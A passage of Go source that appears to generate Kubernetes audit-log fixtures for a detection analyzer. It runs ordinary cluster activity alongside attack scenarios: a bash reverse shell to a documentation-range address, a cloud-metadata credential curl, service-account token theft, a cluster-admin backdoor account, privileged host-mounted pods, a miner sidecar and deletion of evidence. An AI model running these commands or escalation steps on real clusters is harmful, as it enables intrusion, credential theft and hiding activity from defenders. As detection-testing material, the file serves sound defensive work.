package realcluster

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/pem"
	"errors"
	"fmt"
	"io"
	"net"
	"strings"
	"time"

	admregv1 "k8s.io/api/admissionregistration/v1"
	appsv1 "k8s.io/api/apps/v1"
	authnv1 "k8s.io/api/authentication/v1"
	authzv1 "k8s.io/api/authorization/v1"
	certv1 "k8s.io/api/certificates/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/apimachinery/pkg/util/intstr"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/kubernetes/scheme"
	"k8s.io/client-go/tools/remotecommand"
	"k8s.io/utils/ptr"
)

// The addresses the attack scenarios claim in X-Forwarded-For, from the documentation
// ranges (RFC 5737): only a header value, no traffic goes to them.
const (
	AttackerIP  = "198.51.100.23"
	Attacker2IP = "203.0.113.77"
	ScannerIP   = "203.0.113.200"
)

// User agents the scenarios present besides kubectl's and client-go's own.
const (
	uaAttackerKubectl = "kubectl/v1.33.4 (linux/amd64) kubernetes/74b9f6e"
	uaPythonRequests  = "python-requests/2.32.3"
	uaAccessMatrix    = "kubectl-access_matrix/v0.0.0 (linux/amd64) kubernetes/$Format"
	uaPeirates        = "peirates/v1.1.26 (linux/amd64) kubernetes/$Format"
	uaAzureHound      = "azurehound/v2.2.1"
	uaCurl            = "curl/8.11.1"
	backdoorSA        = "kube-metrics-agent"
	backdoorUser      = "system:serviceaccount:kube-system:" + backdoorSA
	webSAUser         = "system:serviceaccount:prod:web"
	anonymous         = "system:anonymous"
)

// Scenarios is every scenario in the order they must run: the benign ones set up the
// namespaces, nodes, workloads and RBAC the attacks use.
func Scenarios() []Scenario {
	return append(BenignScenarios(), AttackScenarios()...)
}

// BenignScenarios are a cluster's ordinary life: nodes joining, an admin setting up
// namespaces and RBAC, a developer and a CI pipeline using kubectl, controllers creating
// pods, every kind of patch, token and access reviews, a CSR approved.
func BenignScenarios() []Scenario {
	return []Scenario{
		{Name: "nodes-join", Kind: KindBenign, Actors: []string{Node1, NodeCP1, Admin},
			Description: "node-1 and cp-1 register (create node, patch status Ready, lease in kube-node-lease) under their node identities; the admin labels and taints cp-1 control-plane as kubeadm does",
			Run:         func(d *Driver) error { return d.StartNodes([]string{"node-1"}, []string{"cp-1"}) }},
		{Name: "kubeadm-addons", Kind: KindBenign, Actors: []string{Admin}, Expect: []string{"KS-TRAIL-006"}, Run: runKubeadmAddons,
			Description: "the admin applies the kube-proxy DaemonSet in kube-system as kubeadm does (privileged, host network, tolerating every taint); the daemonset controller creates its pods on node-1 and cp-1"},
		{Name: "cluster-setup", Kind: KindBenign, Actors: []string{Admin}, Expect: []string{"KS-TRAIL-001", "KS-TRAIL-002", "KS-TRAIL-003", "KS-TRAIL-006"}, Run: runSetup,
			Description: "the admin applies namespaces (team-a audit/warn baseline, prod enforce baseline, payments), role bindings, secrets, a network policy and the prod/web and payments/ledger-db deployments with kubectl apply"},
		{Name: "developer-kubectl", Kind: KindBenign, Actors: []string{Alice}, Expect: []string{"KS-SECRET-013", "KS-TRAIL-006"}, Run: runDeveloper,
			Description: "alice uses kubectl in team-a: get, describe, apply a deployment, scale it, get replicasets, events and secrets, logs (no kubelet: refused), delete a pod"},
		{Name: "ci-deploy", Kind: KindBenign, Actors: []string{CIDeployer}, Expect: []string{"KS-TRAIL-004", "KS-TRAIL-005", "KS-TRAIL-006"}, Run: runCIDeploy,
			Description: "the CI pipeline applies a deployment, service and configmap server-side in team-a, then sets a new image"},
		{Name: "controller-workloads", Kind: KindBenign, Actors: []string{Alice}, Run: runWorkloads,
			Description: "alice creates a Job, a StatefulSet and a CronJob in team-a; the job and statefulset controllers create their pods under their own service accounts, the scheduler binds them"},
		{Name: "patch-types", Kind: KindBenign, Actors: []string{Alice}, Run: runPatchTypes,
			Description: "alice patches a role (JSON patch), a deployment (merge and strategic merge patch), a secret (JSON patch) and applies a secret and a configmap server-side (client-go apply)"},
		{Name: "token-and-access-review", Kind: KindBenign, Actors: []string{CIDeployer, Bob}, Run: runReviews,
			Description: "ci-deployer reviews a valid service-account token and a bad one (TokenReview) and asks a SubjectAccessReview; bob runs kubectl auth can-i (SelfSubjectAccessReview)"},
		{Name: "csr-approved", Kind: KindBenign, Actors: []string{Alice, Admin}, Run: runCSRApproved,
			Description: "alice submits a client CSR for herself (kube-apiserver-client signer), the admin approves it with kubectl certificate approve, the controller-manager signs it"},
		{Name: "impersonation-admin-as-alice", Kind: KindBenign, Actors: []string{Admin}, Expect: []string{"KS-CP-008"}, Run: runImpersonateBenign,
			Description: "the admin checks alice's view with kubectl --as=alice"},
		{Name: "exec-health-checks", Kind: KindBenign, Actors: []string{Alice}, Expect: []string{"KS-EXEC-001"}, Run: runExecHealthChecks,
			Description: "alice checks a team-a pod from inside: kubectl exec of curl -sk https://localhost:8443/healthz and of bash -c '</dev/tcp/127.0.0.1/8080' (a port check), neither interactive"},
		{Name: "metrics-scrape", Kind: KindBenign, Actors: []string{Admin}, Run: runMetricsScrape,
			Description: "a Prometheus-like scraper (the admin's credentials, user agent Prometheus/2.53.0) reads node-1's cadvisor and resource metrics through nodes/proxy (refused here: the node's address is 127.0.0.1)"},
		{Name: "helm-install", Kind: KindBenign, Actors: []string{Admin}, Expect: []string{"KS-TRAIL-001", "KS-TRAIL-002", "KS-TRAIL-004", "KS-TRAIL-006"}, Run: runHelmInstall,
			Description: "the admin (system:masters) installs a chart into payments with Helm's user agent: a service account, a Role and RoleBinding, a Service and a Deployment"},
		{Name: "pod-token-in-cluster", Kind: KindBenign, Actors: []string{Node1, webSAUser}, Run: runPodTokenInCluster,
			Description: "a token of prod/web bound to a web pod (minted by node-1) asks who it is (SelfSubjectReview) from a pod address, 10.244.1.23, as the application would"},
		{Name: "idle", Kind: KindBenign, Actors: []string{Node1, NodeCP1, ControllerManager, Scheduler, "system:apiserver"}, Run: runIdle,
			Description: "25 seconds of a quiet cluster: lease renewals by the nodes, the controller-manager, the scheduler and the apiserver"},
	}
}

// AttackScenarios are the catalog's attacks (analyzer/rules, internal/generate/attacks.go)
// done for real.
func AttackScenarios() []Scenario {
	return []Scenario{
		{Name: "failed-logins", Kind: KindAttack, Actors: []string{""}, Expect: []string{"KS-AUTH-002"}, Run: runFailedLogins,
			Description: "12 requests with bad bearer tokens from 203.0.113.200 (client-go) and 2 with kubectl --token"},
		{Name: "anonymous-probes", Kind: KindAttack, Actors: []string{anonymous}, Expect: []string{"KS-AUTH-004", "KS-AUTH-007", "KS-AUTH-008"}, Run: runAnonymousProbes,
			Description: "anonymous requests from 203.0.113.200 to /healthz, /readyz, /livez, /version, /api, /apis (allowed) and to secrets, pods, deployments and nodes (403), and an attempt to create a configmap (403)"},
		{Name: "anonymous-allowed", Kind: KindAttack, Actors: []string{anonymous, Admin}, Expect: []string{"KS-AUTH-001"}, Run: runAnonymousAllowed,
			Description: "a ClusterRole reading pods and configmaps is bound to system:anonymous; anonymous lists prod's pods and configmaps from 203.0.113.200; the binding is removed"},
		{Name: "exec-shell", Kind: KindAttack, Actors: []string{Alice}, Expect: []string{"KS-EXEC-001", "KS-EXEC-003"}, Run: runExecShell,
			Description: "alice runs kubectl exec -i and -it /bin/sh in a team-a pod (WebSocket), then the same through SPDY with client-go (no kubelet: the apiserver cannot connect to the node)"},
		{Name: "exec-cloud-metadata", Kind: KindAttack, Actors: []string{Alice}, Expect: []string{"KS-EXEC-001", "KS-EXEC-004", "KS-EXEC-007"}, Run: execRun("curl", "-s", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
			Description: "alice execs curl to the cloud metadata service in a team-a pod"},
		{Name: "exec-sa-token-read", Kind: KindAttack, Actors: []string{Alice}, Expect: []string{"KS-EXEC-001", "KS-EXEC-006"}, Run: execRun("cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
			Description: "alice execs cat of the pod's service-account token"},
		{Name: "exec-reverse-shell", Kind: KindAttack, Actors: []string{Alice}, Expect: []string{"KS-EXEC-001", "KS-EXEC-005"}, Run: execRun("bash", "-c", "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1"),
			Description: "alice execs a bash reverse shell to 198.51.100.23 (only a string in the request: no kubelet runs it)"},
		{Name: "attach", Kind: KindAttack, Actors: []string{Alice}, Expect: []string{"KS-EXEC-001"}, Run: runAttach,
			Description: "alice runs kubectl attach -i to a team-a pod"},
		{Name: "cp-out-of-pod", Kind: KindAttack, Actors: []string{Alice}, Expect: []string{"KS-EXEC-008"}, Run: runCopyOut,
			Description: "alice runs kubectl cp team-a/POD:/etc/passwd (an exec of tar cf - /etc/passwd)"},
		{Name: "port-forward", Kind: KindAttack, Actors: []string{Bob}, Expect: []string{"KS-EXEC-002"}, Run: runPortForward,
			Description: "bob runs kubectl port-forward to the payments ledger database pod"},
		{Name: "nodes-proxy", Kind: KindAttack, Actors: []string{CIDeployer}, Expect: []string{"KS-EXEC-009"}, Run: runNodesProxy,
			Description: "ci-deployer reads node-1's kubelet API through nodes/proxy (pods, runningpods, configz)"},
		{Name: "ephemeral-debug-container", Kind: KindAttack, Actors: []string{Alice, CIDeployer}, Expect: []string{"KS-WL-016"}, Run: runDebug,
			Description: "alice tries to add an ephemeral debug container to a team-a pod with kubectl debug (refused: edit/admin do not grant pods/ephemeralcontainers); ci-deployer does it"},
		{Name: "privileged-pod", Kind: KindAttack, Actors: []string{Bob}, Expect: []string{"KS-WL-001", "KS-WL-003", "KS-WL-005", "KS-EXEC-001", "KS-CHAIN-003"}, Run: runPrivilegedPod,
			Description: "bob runs a privileged pod with hostPID, hostNetwork and the node's / mounted in payments (kubectl run --overrides), pinned to node-1, then execs nsenter into it"},
		{Name: "privileged-deployment", Kind: KindAttack, Actors: []string{Alice}, Expect: []string{"KS-WL-001", "KS-WL-003", "KS-WL-006"}, Run: runPrivilegedDeployment,
			Description: "alice applies a Deployment with a privileged container, SYS_ADMIN and the docker socket mounted in team-a; the replicaset controller creates its pods"},
		{Name: "hostpath-daemonset-kube-system", Kind: KindAttack, Actors: []string{CIDeployer}, Expect: []string{"KS-WL-018", "KS-WL-014", "KS-WL-001", "KS-WL-003", "KS-WL-005", "KS-WL-006", "KS-WL-013"}, Run: runDaemonSet,
			Description: "ci-deployer applies a DaemonSet in kube-system tolerating every taint, privileged, hostPID/hostNetwork and / mounted; the daemonset controller creates a pod on node-1 and on cp-1"},
		{Name: "hostpid-job", Kind: KindAttack, Actors: []string{Alice}, Expect: []string{"KS-WL-019", "KS-WL-005", "KS-WL-013"}, Run: runHostPIDJob,
			Description: "alice creates a Job with hostPID and a netshoot image in team-a; the job controller creates its pod"},
		{Name: "hostnetwork-statefulset", Kind: KindAttack, Actors: []string{Alice}, Expect: []string{"KS-WL-005", "KS-WL-004"}, Run: runHostNetSTS,
			Description: "alice creates a StatefulSet with hostNetwork and a hostPath /var/log in team-a; the statefulset controller creates pod -0"},
		{Name: "pod-in-kube-system", Kind: KindAttack, Actors: []string{CIDeployer}, Expect: []string{"KS-WL-014"}, Run: runPodKubeSystem,
			Description: "ci-deployer runs a pod in kube-system with kubectl run"},
		{Name: "control-plane-scheduling", Kind: KindAttack, Actors: []string{Alice}, Expect: []string{"KS-WL-022"}, Run: runControlPlanePod,
			Description: "alice creates a pod with a control-plane nodeSelector and toleration in team-a (the scheduler binds it to cp-1), and one with nodeName cp-1"},
		{Name: "psa-label-relaxed", Kind: KindAttack, Actors: []string{CIDeployer}, Expect: []string{"KS-WL-001", "KS-WL-005", "KS-CP-012"}, Run: runPSARelaxed,
			Description: "ci-deployer's privileged pod is refused by PodSecurity in prod (enforce=baseline), it relabels prod enforce=privileged and creates the pod, then removes the enforce label (kubectl label ...-)"},
		{Name: "cluster-admin-binding", Kind: KindAttack, Actors: []string{CIDeployer}, Expect: []string{"KS-CP-003", "KS-RBAC-001", "KS-RBAC-002", "KS-CHAIN-002"}, Run: runClusterAdminBinding,
			Description: "ci-deployer creates service account kube-system/kube-metrics-agent and binds it to cluster-admin (kubectl create)"},
		{Name: "token-request", Kind: KindAttack, Actors: []string{CIDeployer}, Expect: []string{"KS-CRED-002", "KS-SECRET-010", "KS-CHAIN-002"}, Run: runTokenRequest,
			Description: "ci-deployer mints a token for kube-metrics-agent with kubectl create token --duration 48h (the fixture keeps this token JWT-shaped, signature replaced) and tries it once (SelfSubjectReview) from the CI machine"},
		{Name: "secret-list-cluster-wide", Kind: KindAttack, Actors: []string{backdoorUser}, Expect: []string{"KS-SECRET-004", "KS-SECRET-012", "KS-CRED-003", "KS-DISC-004", "KS-DISC-005"}, Run: runSecretListAll,
			Description: "the kube-metrics-agent token lists secrets in all namespaces and in kube-system from 203.0.113.77 with a kubectl user agent"},
		{Name: "discovery-burst", Kind: KindAttack, Actors: []string{backdoorUser}, Expect: []string{"KS-DISC-003", "KS-DISC-001"}, Run: runDiscoveryBurst,
			Description: "the kube-metrics-agent token asks a SelfSubjectRulesReview and lists 20 resource types cluster-wide from 203.0.113.77"},
		{Name: "rbac-written-by-sa", Kind: KindAttack, Actors: []string{backdoorUser}, Expect: []string{"KS-RBAC-009", "KS-RBAC-001"}, Run: runRBACBySA,
			Description: "the kube-metrics-agent token binds cluster-admin to a new user (a ClusterRoleBinding written by a service account)"},
		{Name: "mutating-webhook", Kind: KindAttack, Actors: []string{backdoorUser}, Expect: []string{"KS-CP-001"}, Run: runWebhooks,
			Description: "the kube-metrics-agent token creates a MutatingWebhookConfiguration on pod creation and a ValidatingWebhookConfiguration (failurePolicy Ignore, a service that does not exist), then deletes both"},
		{Name: "apiservice-insecure", Kind: KindAttack, Actors: []string{CIDeployer}, Expect: []string{"KS-CP-010", "KS-CP-011"}, Run: runAPIService,
			Description: "ci-deployer registers an APIService with insecureSkipTLSVerify for a service that does not exist, redirects it to another service with a merge patch, then deletes it"},
		{Name: "long-lived-token-secret", Kind: KindAttack, Actors: []string{CIDeployer}, Expect: []string{"KS-CRED-001", "KS-SECRET-010"}, Run: runLongLivedToken,
			Description: "ci-deployer creates a kubernetes.io/service-account-token Secret for kube-metrics-agent; the token controller fills it; ci-deployer reads it back"},
		{Name: "secret-enumeration", Kind: KindAttack, Actors: []string{webSAUser, Node1}, Expect: []string{"KS-SECRET-005", "KS-SECRET-002", "KS-SECRET-008", "KS-SECRET-006", "KS-CRED-003", "KS-CRED-009"}, Run: runSecretEnumeration,
			Description: "a token of prod/web (minted by node-1's kubelet identity, bound to a web pod) reads 12 prod secrets and the registry credentials with python-requests from 198.51.100.23, then is refused kube-system's secrets"},
		{Name: "pod-token-after-delete", Kind: KindAttack, Actors: []string{Admin, Node1, webSAUser, ""}, Expect: []string{"KS-CRED-004", "KS-CRED-009"}, Run: runTokenAfterDelete,
			Description: "node-1 mints a token bound to prod pod batch-worker; it works; the admin force-deletes the pod; the same token is then refused (401)"},
		{Name: "rbac-wildcard-role", Kind: KindAttack, Actors: []string{CIDeployer}, Expect: []string{"KS-RBAC-003"}, Run: runWildcardRole,
			Description: "ci-deployer creates a ClusterRole granting * on * and binds it to bob, then adds a * on * rule to team-a's reader Role with a JSON patch and takes it out again"},
		{Name: "rbac-risky-roles", Kind: KindAttack, Actors: []string{CIDeployer}, Expect: []string{"KS-RBAC-004", "KS-RBAC-005", "KS-RBAC-006", "KS-RBAC-007", "KS-RBAC-011", "KS-RBAC-012", "KS-RBAC-013"}, Run: runRiskyRoles,
			Description: "ci-deployer creates roles granting escalate/bind/impersonate, serviceaccounts/token create, pods/exec and nodes/proxy, reading secrets and writing rolebindings, writing secrets, and binds the edit ClusterRole to team-a's default service account"},
		{Name: "cluster-admin-binding-patched", Kind: KindAttack, Actors: []string{CIDeployer}, Expect: []string{"KS-RBAC-001", "KS-RBAC-008", "KS-RBAC-010"}, Run: runPatchClusterAdmin,
			Description: "ci-deployer adds user mallory to the cluster-admin ClusterRoleBinding with a JSON patch, and removes her again; then adds group contractors to its own ci-deployer-admin binding (cluster-admin) with a merge patch, and takes it out again"},
		{Name: "impersonation-system-masters", Kind: KindAttack, Actors: []string{CIDeployer, Alice}, Expect: []string{"KS-CP-008", "KS-CP-009", "KS-SECRET-012"}, Run: runImpersonation,
			Description: "ci-deployer reads kube-system secrets with kubectl --as=system:admin --as-group=system:masters; alice's attempt to impersonate is refused"},
		{Name: "csr-system-masters", Kind: KindAttack, Actors: []string{CIDeployer}, Expect: []string{"KS-CRED-005", "KS-CRED-006", "KS-CRED-007"}, Run: runCSRMasters,
			Description: "ci-deployer submits a CSR for O=system:masters to kubernetes.io/kube-apiserver-client (refused by the apiserver), then to a made-up signer, and approves it itself"},
		{Name: "denial-burst", Kind: KindAttack, Actors: []string{Bob}, Expect: []string{"KS-AUTH-003", "KS-SECRET-006", "KS-AUTH-009"}, Run: runDenialBurst,
			Description: "bob (view in team-a) makes 25 requests he is not allowed"},
		{Name: "offensive-user-agent", Kind: KindAttack, Actors: []string{backdoorUser}, Expect: []string{"KS-AUTH-006", "KS-DISC-002"}, Run: runOffensiveUA,
			Description: "the kube-metrics-agent token makes 30 SelfSubjectAccessReviews as kubectl-access_matrix (rakkess), lists pods and secrets as peirates, and namespaces and nodes as azurehound"},
		{Name: "node-identity-secrets", Kind: KindAttack, Actors: []string{Node1}, Expect: []string{"KS-SECRET-001"}, Run: runNodeSecrets,
			Description: "node-1's kubelet identity lists secrets cluster-wide and reads one of kube-system (the Node authorizer refuses)"},
		{Name: "events-deleted", Kind: KindAttack, Actors: []string{CIDeployer}, Expect: []string{"KS-EVADE-001"}, Run: runEventsDeleted,
			Description: "ci-deployer deletes team-a's events with kubectl delete events --all and kube-system's with a deletecollection"},
		{Name: "networkpolicy-deleted", Kind: KindAttack, Actors: []string{CIDeployer}, Expect: []string{"KS-EVADE-002"}, Run: runNetpolDeleted,
			Description: "ci-deployer deletes prod's default-deny NetworkPolicy"},
		{Name: "deletion-burst", Kind: KindAttack, Actors: []string{CIDeployer}, Expect: []string{"KS-EVADE-003"}, Run: runDeletionBurst,
			Description: "ci-deployer creates 22 configmaps in team-a and deletes them one by one"},
		{Name: "configmap-credentials", Kind: KindAttack, Actors: []string{Alice}, Expect: []string{"KS-CRED-008"}, Run: runConfigMapCreds,
			Description: "alice stores AWS keys and a database password in a ConfigMap under credential-like keys, then an application.properties with an AWS key pair, a JDBC URL with a password and a PEM private key inside values under ordinary keys"},
		{Name: "container-injected", Kind: KindAttack, Actors: []string{Alice}, Expect: []string{"KS-WL-017", "KS-WL-013"}, Run: runInjectContainer,
			Description: "alice adds a miner sidecar to deployment team-a/shop with a strategic merge patch; the replicaset controller rolls new pods"},
		{Name: "control-plane-taint-removed", Kind: KindAttack, Actors: []string{CIDeployer}, Expect: []string{"KS-CP-013"}, Run: runTaintRemoved,
			Description: "ci-deployer removes cp-1's node-role.kubernetes.io/control-plane:NoSchedule taint with kubectl taint, then puts it back"},
	}
}

// ---- benign ----

const setupManifest = `apiVersion: v1
kind: Namespace
metadata:
  name: team-a
  labels:
    pod-security.kubernetes.io/audit: baseline
    pod-security.kubernetes.io/warn: baseline
---
apiVersion: v1
kind: Namespace
metadata:
  name: prod
  labels:
    pod-security.kubernetes.io/enforce: baseline
    pod-security.kubernetes.io/audit: restricted
---
apiVersion: v1
kind: Namespace
metadata:
  name: payments
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {name: alice-edit, namespace: team-a}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: edit}
subjects: [{apiGroup: rbac.authorization.k8s.io, kind: User, name: alice}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {name: alice-rbac, namespace: team-a}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: admin}
subjects: [{apiGroup: rbac.authorization.k8s.io, kind: User, name: alice}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {name: bob-view, namespace: team-a}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: view}
subjects: [{apiGroup: rbac.authorization.k8s.io, kind: User, name: bob}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {name: bob-edit, namespace: payments}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: edit}
subjects: [{apiGroup: rbac.authorization.k8s.io, kind: User, name: bob}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: ci-deployer-admin}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}
subjects: [{apiGroup: rbac.authorization.k8s.io, kind: User, name: ci-deployer}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: csr-requester}
rules:
  - apiGroups: [certificates.k8s.io]
    resources: [certificatesigningrequests]
    verbs: [create, get, list, watch]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: developers-csr-requester}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: csr-requester}
subjects: [{apiGroup: rbac.authorization.k8s.io, kind: Group, name: developers}]
---
apiVersion: v1
kind: ServiceAccount
metadata: {name: web, namespace: prod}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: {name: web-secrets, namespace: prod}
rules:
  - apiGroups: [""]
    resources: [secrets]
    verbs: [get, list]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {name: web-secrets, namespace: prod}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: Role, name: web-secrets}
subjects: [{kind: ServiceAccount, name: web, namespace: prod}]
---
apiVersion: v1
kind: Secret
metadata: {name: db-credentials, namespace: prod}
type: Opaque
stringData:
  username: ledger
  password: fixture-not-a-real-password-1
---
apiVersion: v1
kind: Secret
metadata: {name: regcred, namespace: prod}
type: kubernetes.io/dockerconfigjson
stringData:
  .dockerconfigjson: '{"auths":{"registry.example.com":{"username":"ci","password":"fixture-registry-password","auth":"Y2k6Zml4dHVyZS1yZWdpc3RyeS1wYXNzd29yZA=="}}}'
---
apiVersion: v1
kind: Secret
metadata: {name: api-key, namespace: team-a}
type: Opaque
stringData:
  key: fixture-api-key-0001
---
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: {name: default-deny, namespace: prod}
spec:
  podSelector: {}
  policyTypes: [Ingress]
---
apiVersion: apps/v1
kind: Deployment
metadata: {name: web, namespace: prod, labels: {app: web}}
spec:
  replicas: 2
  selector: {matchLabels: {app: web}}
  template:
    metadata: {labels: {app: web}}
    spec:
      serviceAccountName: web
      containers:
        - name: web
          image: registry.example.com/shop/web:1.4.2
          ports: [{containerPort: 8080}]
---
apiVersion: apps/v1
kind: Deployment
metadata: {name: ledger-db, namespace: payments, labels: {app: ledger-db}}
spec:
  replicas: 1
  selector: {matchLabels: {app: ledger-db}}
  template:
    metadata: {labels: {app: ledger-db}}
    spec:
      containers:
        - name: postgres
          image: docker.io/library/postgres:16.4
          ports: [{containerPort: 5432}]
`

// kubeProxyDaemonSet is kubeadm's kube-proxy add-on, as v1.37 applies it (the default
// service account: kubeadm's own is left out, as is its ConfigMap).
const kubeProxyDaemonSet = `apiVersion: apps/v1
kind: DaemonSet
metadata: {name: kube-proxy, namespace: kube-system, labels: {k8s-app: kube-proxy}}
spec:
  selector: {matchLabels: {k8s-app: kube-proxy}}
  updateStrategy: {type: RollingUpdate}
  template:
    metadata: {labels: {k8s-app: kube-proxy}}
    spec:
      priorityClassName: system-node-critical
      hostNetwork: true
      nodeSelector: {kubernetes.io/os: linux}
      tolerations: [{operator: Exists}]
      containers:
        - name: kube-proxy
          image: registry.k8s.io/kube-proxy:v1.37.2
          command: [/usr/local/bin/kube-proxy, --hostname-override=$(NODE_NAME)]
          env: [{name: NODE_NAME, valueFrom: {fieldRef: {fieldPath: spec.nodeName}}}]
          securityContext: {privileged: true}
          volumeMounts:
            - {name: xtables-lock, mountPath: /run/xtables.lock}
            - {name: lib-modules, mountPath: /lib/modules, readOnly: true}
      volumes:
        - {name: xtables-lock, hostPath: {path: /run/xtables.lock, type: FileOrCreate}}
        - {name: lib-modules, hostPath: {path: /lib/modules}}
`

func runKubeadmAddons(d *Driver) error {
	d.Caused("kube-system", "kube-proxy")
	if err := d.Apply(Admin, kubeProxyDaemonSet); err != nil {
		return err
	}
	_, err := d.WaitPods("kube-system", "kube-proxy", 2, 60*time.Second)
	return err
}

func runSetup(d *Driver) error {
	// Namespaces first: kubectl apply of one stream creates them in order, but the
	// namespaced objects after them need the namespace to exist when their turn comes.
	if err := d.Apply(Admin, setupManifest); err != nil {
		return err
	}
	var extra strings.Builder
	for i := 1; i <= 12; i++ {
		fmt.Fprintf(&extra, "---\napiVersion: v1\nkind: Secret\nmetadata: {name: app-secret-%02d, namespace: prod}\ntype: Opaque\nstringData: {value: fixture-value-%02d}\n", i, i)
	}
	if err := d.Apply(Admin, extra.String()); err != nil {
		return err
	}
	d.Caused("prod", "web")
	d.Caused("payments", "ledger-db")
	if _, err := d.WaitPods("prod", "web", 2, 60*time.Second); err != nil {
		return err
	}
	_, err := d.WaitPods("payments", "ledger-db", 1, 60*time.Second)
	return err
}

const shopDeployment = `apiVersion: apps/v1
kind: Deployment
metadata:
  name: shop
  namespace: team-a
  labels: {app: shop}
spec:
  replicas: 2
  selector: {matchLabels: {app: shop}}
  template:
    metadata: {labels: {app: shop}}
    spec:
      containers:
        - name: shop
          image: registry.example.com/team-a/shop:2.3.1
          ports: [{containerPort: 8080}]
          resources: {requests: {cpu: 100m, memory: 128Mi}}
`

func runDeveloper(d *Driver) error {
	d.Caused("team-a", "shop")
	for _, args := range [][]string{{"get", "pods", "-n", "team-a"}, {"get", "deployments", "-n", "team-a"}} {
		if _, err := d.Kubectl(Alice, "", args...); err != nil {
			return err
		}
	}
	if err := d.Apply(Alice, shopDeployment); err != nil {
		return err
	}
	if _, err := d.Kubectl(Alice, "", "describe", "deployment", "shop", "-n", "team-a"); err != nil {
		return err
	}
	if _, err := d.Kubectl(Alice, "", "scale", "deployment", "shop", "-n", "team-a", "--replicas=3"); err != nil {
		return err
	}
	pods, err := d.WaitPods("team-a", "shop", 3, 60*time.Second)
	if err != nil {
		return err
	}
	for _, args := range [][]string{{"get", "replicasets", "-n", "team-a", "-o", "wide"}, {"get", "events", "-n", "team-a"}, {"get", "pods", "-n", "team-a", "-o", "yaml"}, {"get", "secrets", "-n", "team-a"}} {
		if _, err := d.Kubectl(Alice, "", args...); err != nil {
			return err
		}
	}
	if _, err := d.WaitScheduled("team-a", pods[0], 60*time.Second); err != nil {
		return err
	}
	_, _ = d.Kubectl(Alice, "", "logs", "-n", "team-a", pods[0], "--tail=20") // no kubelet: refused, noted
	_, err = d.Kubectl(Alice, "", "delete", "pod", "-n", "team-a", pods[len(pods)-1], "--wait=false")
	return err
}

const ciManifest = `apiVersion: v1
kind: ConfigMap
metadata: {name: api-config, namespace: team-a}
data:
  LOG_LEVEL: info
  FEATURE_FLAGS: checkout-v2
---
apiVersion: v1
kind: Service
metadata: {name: api, namespace: team-a}
spec:
  selector: {app: api}
  ports: [{port: 80, targetPort: 8080}]
---
apiVersion: apps/v1
kind: Deployment
metadata: {name: api, namespace: team-a, labels: {app: api}}
spec:
  replicas: 1
  selector: {matchLabels: {app: api}}
  template:
    metadata: {labels: {app: api}}
    spec:
      containers:
        - name: api
          image: registry.example.com/team-a/api:7.0.0
          envFrom: [{configMapRef: {name: api-config}}]
`

func runCIDeploy(d *Driver) error {
	d.Caused("team-a", "api")
	if err := d.Apply(CIDeployer, ciManifest, "--server-side", "--field-manager=ci-pipeline"); err != nil {
		return err
	}
	if _, err := d.WaitPods("team-a", "api", 1, 60*time.Second); err != nil {
		return err
	}
	_, err := d.Kubectl(CIDeployer, "", "set", "image", "deployment/api", "-n", "team-a", "api=registry.example.com/team-a/api:7.0.1")
	if err != nil {
		return err
	}
	_, err = d.Kubectl(CIDeployer, "", "rollout", "history", "deployment/api", "-n", "team-a")
	return err
}

func runWorkloads(d *Driver) error {
	d.Caused("team-a", "report")
	d.Caused("team-a", "cache")
	d.Caused("team-a", "nightly")
	m := `apiVersion: batch/v1
kind: Job
metadata: {name: report, namespace: team-a}
spec:
  backoffLimit: 1
  template:
    spec:
      restartPolicy: Never
      containers: [{name: report, image: registry.example.com/team-a/report:1.0.0, args: [--month, current]}]
---
apiVersion: apps/v1
kind: StatefulSet
metadata: {name: cache, namespace: team-a}
spec:
  serviceName: cache
  replicas: 1
  selector: {matchLabels: {app: cache}}
  template:
    metadata: {labels: {app: cache}}
    spec:
      containers: [{name: redis, image: docker.io/library/redis:7.4.1}]
---
apiVersion: batch/v1
kind: CronJob
metadata: {name: nightly, namespace: team-a}
spec:
  schedule: "0 3 * * *"
  jobTemplate:
    spec:
      template:
        spec:
          restartPolicy: OnFailure
          containers: [{name: backup, image: registry.example.com/team-a/backup:3.1.0}]
`
	if err := d.Apply(Alice, m); err != nil {
		return err
	}
	if _, err := d.WaitPods("team-a", "report", 1, 60*time.Second); err != nil {
		return err
	}
	_, err := d.WaitPods("team-a", "cache", 1, 60*time.Second)
	return err
}

func runPatchTypes(d *Driver) error {
	d.Caused("team-a", "shop")
	role := `apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: {name: reader, namespace: team-a}
rules:
  - apiGroups: [""]
    resources: [pods]
    verbs: [get, list]
`
	if err := d.Apply(Alice, role); err != nil {
		return err
	}
	steps := [][]string{
